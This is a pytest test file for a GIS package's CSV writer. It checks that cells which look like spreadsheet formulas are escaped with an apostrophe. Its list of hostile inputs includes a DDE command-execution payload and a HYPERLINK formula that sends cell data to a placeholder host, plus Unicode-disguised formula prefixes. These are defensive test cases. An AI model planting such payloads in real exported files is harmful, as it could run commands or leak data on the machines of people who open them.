"""No table that the package writes holds a cell that a spreadsheet would take for a formula."""

import csv
import io
import json
import re
import unicodedata

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from nanyi_gis.cli.sources import command as sources
from nanyi_gis.io import csv_text, disarmed, write_csv

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://a.example/?x="&A1,"ok")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹣1+1",
    "\u2212 1+1",
    " =1",
    "\u00a0=1",
    "\u3000＝1",
    "\ufeff=1",
    "\u200b=1",
    "\u2060@x",
    "\u202e=1",
    "\x00=1",
    "\x1f=1",
    '"=1+1',
    "“=1",
    "`=1",
    '" \u200b"＝1',
    "\u3164=1",
    "-",
    "--5",
    "-1,200",
    "-1_000",
    "-inf",
    "+nan",
    "- 5",
    "+86 830 123",
    "-5 °C",
]
HARMLESS = [
    "",
    "叙永县",
    "a=b",
    "古蔺-叙永",
    "x@y.cn",
    "5 - 3",
    "1+1",
    "'=1",
    "O'Neil",
    '"quoted"',
    "700-900 m",
    "< 700",
]
NUMBERS = ["-3.5", "+3.5", "-3", "1e-5", "-1E+5", "-.5", "+5.", " -3.5", "0"]


def rows_of(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def number(text):
    try:
        float(text)
    except ValueError:
        return False
    return "_" not in text and not any(word in text.lower() for word in ("inf", "nan"))


def dangerous(cell):
    """Say whether a cell begins as a formula does; written apart from the package's own rule."""
    bare = cell.lstrip('"`´‘’“”„«»′″＂＇\u3164 ')
    while bare and (unicodedata.category(bare[0])[0] in "CZ" or unicodedata.category(bare[0]) in {"Mn", "Me"}):
        bare = bare[1:].lstrip('"`´‘’“”„«»′″＂＇\u3164 ')
    begins = cell[:1] in {"\t", "\r", "\n"} or bare[:1] in set("=+-@＝＋－＠﹣﹢﹦﹫−")
    return begins and not cell.startswith("'") and not number(cell)


def parts_of(cell):
    """Return the cells that a spreadsheet would make of one where a semicolon parts them, as with decimal commas."""
    return re.split("[;\t\r\n]", cell)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("甲;=1+1;乙", "甲;'=1+1;乙"), ("a;-3;+4.5", "a;-3;+4.5"), ("a\n@x", "a\n'@x"), ("a\r=1", "a\n'=1"), (";;", ";;")],
)
def test_what_would_begin_a_cell_after_a_semicolon_or_a_line_break_is_disarmed_too(text, expected):
    assert disarmed(text) == expected


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_gets_an_apostrophe(text):
    assert dangerous(text)
    expected = text.replace("\r\n", "\n").replace("\r", "\n")
    assert disarmed(text).startswith("'")
    assert disarmed(text).replace("'", "") == expected.replace("'", "")
    assert not any(dangerous(part) for part in parts_of(disarmed(text)))
    assert disarmed(disarmed(text)) == disarmed(text)


@pytest.mark.parametrize("text", [*HARMLESS, *NUMBERS])
def test_a_harmless_text_and_a_number_stay(text):
    assert disarmed(text) == text


def test_values_that_are_no_text_stay_unless_their_text_is_hostile():
    class Name:
        def __str__(self):
            return "=1"

    kept = [-3.5, -7, None, True, np.float32(-2.5), np.int64(-1), pd.Timestamp("2022-03-14"), ["=1"], complex(-1, 1)]
    assert [disarmed(value) for value in kept] == kept
    assert disarmed(Name()) == "'=1"


def test_cells_and_headings_of_a_table_are_disarmed_and_numbers_are_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "=name": ["=1", "甲", None],
            "m": [-1.5, np.nan, -0.25],
            "n": [-1, 2, -3],
            "kind": pd.Categorical(["@x", "b", "b"]),
            "mixed": [-2.5, "-2.5", "-x"],
        }
    )
    path = write_csv(table, tmp_path / "t.csv", digits=2)
    assert path.read_text(encoding="utf-8") == (
        "'=name,m,n,kind,mixed\n'=1,-1.5,-1,'@x,-2.5\n甲,,2,b,-2.5\n,-0.25,-3,b,'-x\n"
    )
    back = pd.read_csv(path)
    np.testing.assert_array_equal(back["m"], table["m"])
    assert table["=name"].tolist()[:2] == ["=1", "甲"]


def test_two_columns_of_one_name_and_no_rows_are_written():
    assert csv_text(pd.DataFrame([["=1", 2]], columns=["a", "a"])) == "a,a\n'=1,2\n"
    assert csv_text(pd.DataFrame({"a": [], "=b": []})) == "a,'=b\n"


LETTERS = st.sampled_from("=+-@＝＋－＠\t\r\n \u00a0\u3000\ufeff\u200b\"'`“”,;|a1.eE甲−﹣\x00")
TEXTS = st.one_of(st.text(LETTERS, max_size=8), st.text(max_size=8), st.sampled_from(HOSTILE))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(TEXTS, st.floats(allow_nan=False)), min_size=1, max_size=5), TEXTS)
@example([("a\r=1", -1.0), ('a"\n=1', -2.0)], "\r=")
def test_no_cell_begins_as_a_formula_unless_it_is_a_number(rows, heading):
    """Each row stays a row: nothing in a cell can end it and begin another."""
    usable = [(text.encode("utf-8", "replace").decode(), value) for text, value in rows]
    name = heading.encode("utf-8", "replace").decode()
    table = pd.DataFrame([list(row) for row in usable], columns=[name, "v"])
    back = rows_of(csv_text(table))
    assert len(back) == len(usable) + 1
    assert all(len(row) == 2 for row in back)
    for cell in (back[0][0], *(row[0] for row in back[1:])):
        assert not dangerous(cell), cell
    for (text, value), (cell, shown) in zip(usable, back[1:], strict=True):
        plain = text.replace("\r\n", "\n").replace("\r", "\n")
        assert cell.replace("'", "") == plain.replace("'", "")
        assert float(shown) == value


def test_provenance_of_a_study_is_disarmed(tmp_path):
    record = 'id = "mine"\ntitle_zh = "a"\ntitle_en = "a"\ncrs = "EPSG:4544"\nedges = [700]\ncounties = "c.geojson"\n'
    (tmp_path / "study.toml").write_text(record, encoding="utf-8")
    square = gpd.GeoDataFrame({"name": ["a"]}, geometry=gpd.points_from_xy([105.4], [28.0]).buffer(0.1), crs=4326)
    square.to_file(tmp_path / "c.geojson")
    provenance = {
        "title": "=1+1",
        "title_zh": "@x",
        "source": "\ufeff=1",
        "as_of": "2022",
        "datum": "WGS-84",
        "licence": "+a",
        "evidence": "official",
        "uncertainty_m": 5,
        "method": "-a",
    }
    text = "\n".join(f"{key} = {json.dumps(value)}" for key, value in provenance.items())
    (tmp_path / "c.geojson.toml").write_text(text, encoding="utf-8")
    result = CliRunner().invoke(sources, ["--format", "csv", "--study", str(tmp_path)])
    assert result.exit_code == 0, result.exception
    cells = [cell for row in rows_of(result.output) for cell in row]
    assert {"'=1+1", "'@x", "'\ufeff=1"} <= set(cells)
    assert not any(map(dangerous, cells))
